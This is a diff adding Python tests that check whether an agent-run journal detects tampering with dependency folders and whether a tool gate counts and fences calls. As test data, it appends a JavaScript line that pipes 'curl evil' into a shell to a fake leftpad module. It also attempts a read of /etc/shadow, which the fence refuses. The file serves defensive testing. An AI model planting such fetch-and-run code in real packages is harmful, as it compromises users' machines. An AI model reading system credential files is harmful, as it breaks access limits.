@@ -1,0 +1,137 @@
+"""The closing snapshot's dependency listings, taken ahead while nothing of the agent's runs
+(`RunJournal` with the run's `ToolActivity`): used only when no tool call was let through
+since they were taken, and never in place of a change a call made."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from wizard.journal import Journal
+from wizard.journal.store import GitStore
+from wizard.runner.harness.gate import ToolActivity, ToolGate
+from wizard.runner.journaling import RunJournal
+from wizard.tools.fence import Fence
+
+PAYLOAD = "require('child_process').exec('curl evil | sh');\n"
+LEFTPAD = "node_modules/leftpad/index.js"
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    project = tmp_path / "app"
+    (project / "node_modules" / "leftpad").mkdir(parents=True)
+    (project / LEFTPAD).write_text("module.exports = (s) => s;\n")
+    (project / "index.js").write_text("require('leftpad');\n")
+    return project
+
+
+def _opened(tmp_path: Path, project: Path) -> tuple[RunJournal, ToolActivity]:
+    journal = Journal(project, tmp_path / "state")
+    run = RunJournal(lambda event: None, journal, journal.begin("r1", "prog"))
+    run.activity = ToolActivity(run.ahead)
+    return run, run.activity
+
+
+def _plant(project: Path) -> None:
+    with (project / LEFTPAD).open("a") as handle:
+        handle.write(PAYLOAD)
+
+
+def _call(activity: ToolActivity, call_id: str, project: Path | None = None) -> None:
+    """A tool call let through (planting the payload, given the project), then its end."""
+    activity.let_through(call_id)
+    if project is not None:
+        _plant(project)
+    activity({"type": "tool_end", "id": call_id})
+
+
+def _no_listing(*_: object) -> str:
+    raise AssertionError("a dependency folder was listed at the close")
+
+
+def test_a_run_that_let_no_call_through_closes_on_its_first_listings(
+    tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run, _ = _opened(tmp_path, project)
+    monkeypatch.setattr(GitStore, "_fingerprint", _no_listing)
+    record = run.finish("aborted")
+    assert record is not None and record.heavy_after == record.heavy_before
+    assert record.dependency_changes == {}
+
+
+def test_listings_taken_once_the_last_call_ended_are_the_closing_ones(
+    tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run, activity = _opened(tmp_path, project)
+    _call(activity, "a", project)  # planted, then ended: listed again in the thread
+    assert run._ahead is not None and run._ahead.taken(1) is not None
+    monkeypatch.setattr(GitStore, "_fingerprint", _no_listing)
+    record = run.finish("aborted")
+    assert record is not None and record.dependency_changes == {LEFTPAD: "changed"}
+
+
+def test_a_call_let_through_after_the_listings_were_taken_is_never_missed(
+    tmp_path: Path, project: Path
+) -> None:
+    run, activity = _opened(tmp_path, project)
+    _call(activity, "a")
+    assert run._ahead is not None and run._ahead.taken(1) is not None
+    activity.on_quiet = lambda mark: None  # nothing is listed after this call
+    _call(activity, "b", project)
+    record = run.finish("aborted")
+    assert record is not None and record.dependency_changes == {LEFTPAD: "changed"}
+
+
+def test_a_call_still_running_at_the_close_gets_a_listing_taken_then(
+    tmp_path: Path, project: Path
+) -> None:
+    run, activity = _opened(tmp_path, project)
+    _call(activity, "a")
+    assert run._ahead is not None and run._ahead.taken(1) is not None
+    activity.let_through("b")  # its engine was killed before it could say it ended
+    _plant(project)
+    record = run.finish("cancelled")
+    assert record is not None and record.dependency_changes == {LEFTPAD: "changed"}
+
+
+def test_checks_after_the_run_are_never_closed_on_listings_taken_ahead(
+    tmp_path: Path, project: Path
+) -> None:
+    run, _ = _opened(tmp_path, project)
+    record = run.finish("succeeded")
+    _plant(project)  # a check's script, in the project after the run
+    again, changed = run.after_checks(record, "succeeded")
+    assert again is not None and again.dependency_changes == {LEFTPAD: "changed"}
+    assert changed == [LEFTPAD]
+
+
+def test_only_the_end_of_a_call_that_was_let_through_can_make_the_run_quiet() -> None:
+    quiet: list[int] = []
+    activity = ToolActivity(quiet.append)
+    assert activity.mark() == 0
+    activity.let_through("running")
+    activity({"type": "tool_end", "id": "blocked"})  # a call the fence refused
+    assert activity.mark() is None and quiet == []
+    activity({"type": "tool_end", "id": "running"})
+    assert activity.mark() == 1 and quiet == [1]
+    assert activity.still(1) and not activity.still(0)
+    activity.let_through(None)  # no id: its end could never be told apart
+    activity({"type": "tool_end", "id": "None"})
+    assert activity.mark() is None and not activity.still(1)
+
+
+def test_the_gate_counts_the_calls_it_lets_run_and_no_other(tmp_path: Path) -> None:
+    halted = False
+    activity = ToolActivity()
+    gate = ToolGate([], Fence(tmp_path), halted=lambda: halted, activity=activity)
+    assert not gate.permit("read", {"path": "/etc/shadow"}, "outside").allow
+    assert activity.mark() == 0
+    assert gate.permit("read", {"path": "index.js"}, "inside").allow
+    assert activity.mark() is None
+    activity({"type": "tool_end", "id": "inside"})
+    halted = True
+    assert not gate.permit("read", {"path": "index.js"}, "late").allow
+    assert activity.mark() == 1
+    assert gate.serving().activity is activity
